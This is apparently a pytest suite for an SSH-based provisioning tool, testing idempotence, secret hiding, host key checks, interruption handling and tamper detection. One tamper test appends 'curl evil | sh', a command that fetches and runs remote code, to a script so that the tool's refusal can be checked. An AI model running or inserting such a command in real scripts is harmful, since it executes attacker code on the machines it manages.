"""A folder applied over real SSH to bare Debian 12 containers (sshd, sudo, a POSIX userland; no Python, no engine)."""

from __future__ import annotations

import hashlib
import os
import signal
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.hosts.applying import applied
from tests.hosts.folders import differing, write_folder, write_sums
from tests.hosts.machines import Machine, eventually, running_machines, wire_to
from tests.hosts.sshd import log_in_with

if TYPE_CHECKING:
    from docker import APIClient

pytestmark = pytest.mark.engine

SCRIPTS = {
    "10-engine.sh": "echo engine on $(hostname) >>/made\n",
    "20-network.sh": "echo network >>/made; cat stacks/cities/name\n",
    "50-stacks.sh": "echo stacks >>/made\n",
}
FIRST = ("50-stacks.sh", "70-verify.sh")
BASE = "/var/lib/invoke-pipeline/bootstrap/stage"
FINGERPRINT = "SHA256:" + "a" * 43


@pytest.fixture(scope="module")
def pair(module_engine: APIClient, user_key: Path) -> Iterator[list[Machine]]:
    with running_machines(module_engine, user_key, 2) as machines:
        yield machines


@pytest.fixture
def two(pair: list[Machine], user_key: Path) -> list[Machine]:
    """Bare again, and the user may log in."""
    log_in_with(user_key)
    for machine in pair:
        machine.run("rm -rf /var/lib/invoke-pipeline /made /seen")
    return pair


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return write_folder(tmp_path / "stage", SCRIPTS, first=FIRST, files={"stacks/cities/name": "cities\n"})


def test_two_bare_machines_are_built_and_a_second_run_only_compares(two: list[Machine], folder: Path) -> None:
    hosts = [machine.meet(name) for machine, name in zip(two, "ab", strict=True)]

    first, second = applied(folder, hosts), applied(folder, hosts)

    assert (first.code, first.err.count("differs")) == (0, 0), first
    assert first.ran("a") == ["10-engine.sh", "20-network.sh", "50-stacks.sh"]
    assert first.ran("b") == ["10-engine.sh", "20-network.sh"]
    assert "b: 20-network.sh: cities\n" in first.err
    assert "a: stage is as 70-verify.sh wants it (1 containers)\n" in first.out
    assert [machine.run("command -v python3; cut -d ' ' -f 1 /made").split() for machine in two] == [
        ["engine", "network", "stacks"],
        ["engine", "network"],
    ]
    assert (second.code, second.ran("a"), second.ran("b")) == (0, [], [])
    assert "a: leave 50-stacks.sh: finished before" in second.err


def test_check_shows_the_plan_and_changes_nothing(two: list[Machine], folder: Path) -> None:
    host = two[0].meet("a")

    before = applied(folder, [host], check=True)
    there = two[0].run("ls -A /var/lib/invoke-pipeline /made 2>/dev/null")
    applied(folder, [host])
    after = applied(folder, [host], check=True)

    assert (before.code, there, after.code) == (2, "", 0)
    assert "a: run   10-engine.sh: not finished yet" in before.err


def test_the_folder_there_is_root_s_alone_and_nothing_else_is_left(two: list[Machine], folder: Path) -> None:
    applied(folder, [two[0].meet("a")])

    assert two[0].run("stat -c '%U %a' /var/lib/invoke-pipeline") == "root 700\n"
    listed = two[0].run(f"ls -A {BASE} | sort").split()
    digest = hashlib.sha256((folder / "SHA256SUMS").read_bytes()).hexdigest()
    assert listed == [f"folder-{digest}", "lock", "step.lock", "steps"]


def test_a_changed_folder_takes_the_place_of_the_old_one(two: list[Machine], folder: Path) -> None:
    host = two[0].meet("a")
    applied(folder, [host])
    (folder / "50-stacks.sh").write_text("echo others >>/made\n")
    write_sums(folder)

    again = applied(folder, [host])

    assert (again.code, again.ran("a")) == (0, ["50-stacks.sh"])
    assert two[0].run(f"ls -d {BASE}/folder-* | wc -l") == "1\n"


def test_a_user_with_sudo_builds_as_root_and_one_without_is_refused_before_anything_is_changed(
    two: list[Machine], folder: Path
) -> None:
    deploy, guest = two[0].meet("a", user="deploy"), two[1].meet("b", user="guest")

    built, refused = applied(folder, [deploy]), applied(folder, [guest])

    assert (built.code, built.ran("a")) == (0, ["10-engine.sh", "20-network.sh", "50-stacks.sh"])
    assert two[0].run("stat -c %U /made") == "root\n"
    assert refused.code == 4
    assert "error: b is not taken: guest may not become root\nnext:  Log in as root, or give guest" in refused.err
    assert two[1].run("ls /made /var/lib/invoke-pipeline 2>/dev/null") == ""


@pytest.mark.parametrize("user", ["root", "deploy"])
def test_a_value_of_quotes_and_newlines_arrives_whole_and_is_nowhere_else(
    two: list[Machine], tmp_path: Path, user: str
) -> None:
    secret = 'it\'s "quoted" $HOME `id` \\n\nsecond-line-of-it\n#end\n é'
    script = 'printf %s "$DB_PASSWORD" | sha256sum; ps axww -o args >/seen; echo said: $DB_PASSWORD >&2\n'
    folder = write_folder(tmp_path / "stage", {"10-engine.sh": script}, variables="# The password.\nDB_PASSWORD=\n")

    done = applied(folder, [two[0].meet("a", user=user)], {"DB_PASSWORD": secret})

    assert f"10-engine.sh: {hashlib.sha256(secret.encode()).hexdigest()}  -" in done.err
    assert "sh -c LC_ALL=C" in two[0].run("cat /seen")
    assert "second-line-of-it" not in done.err + done.out
    assert "second-line" not in two[0].run("cat /seen")
    # grep's own pattern is cut in two, so that it does not find itself
    assert two[0].run("grep -rl 'second''-line' /var /root /home /tmp /etc /run 2>/dev/null") == ""
    logged: bytes = two[0].client.logs(two[0].container)
    assert b"second-line" not in logged
    assert b"Accepted publickey" in logged


def test_a_value_that_no_process_can_have_is_bad_input_and_not_shown(two: list[Machine], tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "stage", SCRIPTS | {"20-network.sh": "true\n"}, variables="DB_PASSWORD=\n")

    done = applied(folder, [two[0].meet("a")], {"DB_PASSWORD": "x" * 140_000})

    assert done.code == 3
    assert "the value of DB_PASSWORD cannot be a variable" in done.err
    assert "xxx" not in done.err


def test_a_script_that_was_tampered_with_here_or_there_is_refused_by_name(two: list[Machine], folder: Path) -> None:
    host = two[0].meet("a")
    applied(folder, [host])
    two[0].run(f"cd {BASE}/folder-*; echo '# more' >>50-stacks.sh; rm /made")

    there = applied(folder, [host], again=True)
    with (folder / "20-network.sh").open("a") as file:
        file.write("curl evil | sh\n")
    here = applied(folder, [host])

    assert (there.code, here.code) == (4, 4)
    assert "error: a: 50-stacks.sh was changed since it was copied" in there.err
    assert "error: 20-network.sh was changed since it was written" in here.err
    assert two[0].run("ls /made 2>/dev/null") == ""


@pytest.mark.parametrize("lost", [*SCRIPTS, "70-verify.sh"])
def test_a_connection_lost_in_a_step_ends_that_step_there_and_the_next_run_goes_on_with_it(
    two: list[Machine], folder: Path, lost: str
) -> None:
    text = (folder / lost).read_text()
    (folder / lost).write_text(f"{text}[ -e /seen ] || {{ echo begun; sleep 987; }}\n")
    write_sums(folder)
    with wire_to(two[0].port) as wire:
        host = two[0].meet("a", port=wire.port)
        watching = threading.Thread(target=lambda: eventually(lambda: sleeps(two[0])) and wire.cut())
        watching.start()

        cut = applied(folder, [host])
        watching.join()
        gone = eventually(lambda: not sleeps(two[0]))
        two[0].run("touch /seen")
        again = applied(folder, [host])

    assert (cut.code, gone, again.code) == (5, True, 0), (cut, again)
    assert f"error: a: the connection was lost while {lost} ran\nnext:  Run the same again" in cut.err
    order = [name for name in SCRIPTS if name != "70-verify.sh"]
    assert again.ran("a") == (order[order.index(lost) :] if lost in order else [])


@pytest.mark.parametrize("limit", [10, 1_500, 5_000, 30_000, 400_000, 2_000_000])
def test_a_connection_lost_before_the_folder_is_there_leaves_no_half_of_it(
    two: list[Machine], folder: Path, limit: int
) -> None:
    (folder / "image.tar").write_bytes(os.urandom(4_000_000))
    write_sums(folder)
    with wire_to(two[0].port) as wire:
        host = two[0].meet("a", port=wire.port)
        wire.limit = limit
        cut = applied(folder, [host])
        emptied = eventually(lambda: "new" not in two[0].run(f"ls {BASE} 2>/dev/null"))
        again = applied(folder, [host])

    assert (cut.code, emptied, again.code) == (5, True, 0), (cut, again)
    assert again.ran("a") == list(SCRIPTS)


@pytest.mark.parametrize("count", [1, 2])
def test_ctrl_c_ends_what_runs_on_every_machine_before_it_comes_back(
    two: list[Machine], folder: Path, count: int
) -> None:
    two = two[:count]
    (folder / "20-network.sh").write_text("trap 'echo asked >>/seen; exit 1' TERM; echo begun; sleep 987 & wait\n")
    write_sums(folder)
    hosts = [machine.meet(f"host{number}") for number, machine in enumerate(two)]

    def interrupt() -> None:
        eventually(lambda: all(sleeps(machine) for machine in two))
        os.kill(os.getpid(), signal.SIGINT)

    threading.Thread(target=interrupt).start()
    with pytest.raises(KeyboardInterrupt):
        applied(folder, hosts)

    assert [sleeps(machine) for machine in two] == [False] * count
    assert [machine.run("cat /seen") for machine in two] == ["asked\n"] * count
    assert [machine.run(f"ls {BASE}/steps") for machine in two] == ["10-engine.sh\n"] * count


def test_one_machine_with_two_names_is_bad_input(two: list[Machine], folder: Path) -> None:
    done = applied(folder, [two[0].meet("a"), two[0].meet("b")])

    assert done.code == 3
    assert "a and b are the same machine" in done.err
    assert two[0].run("ls /made 2>/dev/null") == ""


def test_an_unknown_host_key_is_refused_in_two_lines_with_its_fingerprint(two: list[Machine], folder: Path) -> None:
    host = two[0].meet("a", known=False)
    before = two[0].client.logs(two[0].container)

    done = applied(folder, [host])

    told = two[0].run("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub").split()[1]
    assert done.code == 4
    assert done.err.splitlines()[0].startswith(f"error: a shows ssh-ed25519 {told}, and it is not in ")
    assert done.err.splitlines()[1].startswith("next:  Compare with `ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`")
    assert len(done.err.splitlines()) == 2
    assert b"Accepted" not in two[0].client.logs(two[0].container).removeprefix(before)


def test_a_key_that_is_not_the_known_one_is_refused(two: list[Machine], folder: Path) -> None:
    host = two[0].meet("a", known=False)
    Path("~/.ssh/known_hosts").expanduser().write_text(f"a {two[1].line}\n")

    done = applied(folder, [host])

    assert done.code == 4
    assert "error: a shows another key than ~/.ssh/known_hosts has: ssh-ed25519 SHA256:" in done.err


def test_a_pinned_fingerprint_stands_for_known_hosts_and_a_wrong_one_is_refused(
    two: list[Machine], folder: Path
) -> None:
    told = two[0].run("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub").split()[1]
    unknown = two[0].meet("a", known=False)

    wrong = applied(folder, [unknown], host_keys=[f"a={FINGERPRINT}"])
    right = applied(folder, [unknown], host_keys=[told])

    assert (wrong.code, right.code) == (4, 0)
    assert f"error: a shows ssh-ed25519 {told}; pinned is {FINGERPRINT}" in wrong.err


def test_a_machine_behind_a_jump_host_is_built_through_it(two: list[Machine], folder: Path) -> None:
    jump, behind = two
    jump.meet("jump", user="guest")
    behind.meet("inner", more="  ProxyJump jump\n")
    config = Path("~/.ssh/config").expanduser()
    config.write_text(config.read_text().replace(f"127.0.0.1\n  Port {behind.port}", f"{behind.address}\n  Port 22"))

    done = applied(folder, ["inner"])

    assert (done.code, done.ran("inner")) == (0, list(SCRIPTS)), done
    assert "stacks" in behind.run("cat /made")
    assert jump.run("ls /made 2>/dev/null") == ""


def test_a_jump_host_whose_key_is_unknown_is_refused_by_its_own_name(two: list[Machine], folder: Path) -> None:
    jump, behind = two
    jump.meet("jump", known=False)
    behind.meet("inner", more="  ProxyJump jump\n")

    done = applied(folder, ["inner"])

    assert done.code == 4
    assert "error: jump shows ssh-ed25519" in done.err


def test_what_differs_is_named_and_is_1(two: list[Machine], tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "stage", {"10-engine.sh": "", "70-verify.sh": differing("a is gone", "b is new")})

    done = applied(folder, [two[0].meet("a")])

    assert done.code == 1
    assert (
        "a: differs: a is gone\na: differs: b is new\nerror: stage differs from environment.json in 2 points"
        in done.err
    )


def test_a_step_that_fails_says_so_and_is_where_the_next_run_begins(two: list[Machine], folder: Path) -> None:
    (folder / "20-network.sh").write_text("[ -e /seen ] || { echo 'no network' >&2; exit 5; }\n")
    write_sums(folder)
    host = two[0].meet("a")

    failed = applied(folder, [host])
    two[0].run("touch /seen")
    again = applied(folder, [host])

    assert (failed.code, again.code) == (5, 0)
    assert "a: 20-network.sh: no network\nerror: a: 20-network.sh ended with 5\nnext:  Its last words" in failed.err
    assert again.ran("a") == ["20-network.sh", "50-stacks.sh"]


def test_another_system_is_refused_before_anything_is_changed(two: list[Machine], folder: Path) -> None:
    two[0].run(
        "cp -P /etc/os-release /etc/os-release.kept; printf 'ID=ubuntu\\nVERSION_ID=\"24.04\"\\n' >/tmp/os; ln -sf /tmp/os /etc/os-release"
    )
    try:
        done = applied(folder, [two[0].meet("a")])
    finally:
        two[0].run("mv /etc/os-release.kept /etc/os-release")

    assert done.code == 4
    assert (
        "error: a is not taken: it runs ubuntu 24.04\nnext:  Install one that this was tried on: debian 12." in done.err
    )
    assert two[0].run("ls /var/lib/invoke-pipeline 2>/dev/null") == ""


def test_another_engine_s_cluster_is_refused(two: list[Machine], folder: Path) -> None:
    two[0].run("printf '#!/bin/sh\\n' >/usr/local/bin/k3s; chmod +x /usr/local/bin/k3s")
    try:
        done = applied(folder, [two[0].meet("a")])
    finally:
        two[0].run("rm /usr/local/bin/k3s")

    assert done.code == 4
    assert "something else runs containers there: k3s" in done.err


def test_an_engine_that_does_not_answer_is_refused(two: list[Machine], folder: Path) -> None:
    two[0].run(
        "printf '#!/bin/sh\\nexit 1\\n' >/usr/bin/docker; chmod +x /usr/bin/docker; cp /usr/bin/docker /usr/bin/dockerd"
    )
    try:
        done = applied(folder, [two[0].meet("a")])
    finally:
        two[0].run("rm /usr/bin/docker /usr/bin/dockerd")

    assert done.code == 4
    assert "error: a is not taken: a docker is there and does not answer, so what it runs cannot be seen" in done.err


def sleeps(machine: Machine) -> bool:
    """Whether a step's `sleep 987` runs there; one that nobody has buried yet does not."""
    return "sleep 987" in machine.run("ps ax -o stat=,args= | grep -v '^Z' | grep '[s]leep 987'")
